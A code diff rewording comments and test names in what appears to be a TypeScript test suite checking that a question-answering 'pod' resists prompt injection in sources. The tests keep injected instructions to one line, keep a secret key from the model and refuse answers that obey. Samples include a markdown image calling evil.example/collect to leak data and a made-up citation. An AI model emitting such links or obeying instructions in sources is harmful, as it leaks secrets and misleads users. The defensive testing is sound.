@@ -1,4 +1,7 @@
-/** Sources with instructions for a language model: the most they can reach is a text, and that is checked like any other. */
+/**
+ * Sources contain instructions for the language model. These can only change the text of an answer, and the pod checks
+ * this text like any other.
+ */
 import { afterAll, assert, beforeAll, describe, it } from "@effect/vitest"
 import { Option, Redacted } from "effect"
 import { aModelStub, type AskedModel, type ModelStub, replies } from "../support/modelStub.ts"
@@ -15,7 +18,7 @@ const injected = [
 ].join("\n")
 
 for (const [where, storage] of storages) {
-  describe(`attack: a source of an answer contains instructions for the language model, ${where}`, () => {
+  describe(`attack: a text that the language model reads as a source contains instructions for the model, ${where}`, () => {
     let stub: ModelStub
     let pod: TestPod
     const secret = "sk-of-the-pod-4711"
@@ -42,7 +45,7 @@ for (const [where, storage] of storages) {
     }
     const eventsOf = async () => (await pod.owner.send("GET", "/api/hub/events?limit=100")).body
 
-    it("an instruction in a source stays within the one line of that source in the data for the model", async () => {
+    it("the pod writes each source as one line in the data for the model, so that an instruction in a source stays within this line", async () => {
       stub.reply(replies.saying("NO ANSWER"))
       await ask()
       const [{ body }] = stub.asked()
@@ -58,7 +61,7 @@ for (const [where, storage] of storages) {
       assert.notInclude(JSON.stringify(body), secret)
     })
 
-    it("a model that obeys an instruction in a source changes nothing in the pod, and its answer is refused", async () => {
+    it("if the model obeys an instruction in a source, the pod refuses its answer and changes no record", async () => {
       const obeying: ReadonlyArray<(asked: AskedModel) => string> = [
         () => "The crane is free of charge [9].",
         () => "Crane manual [1]. ![x](https://evil.example/collect?data=4711)",
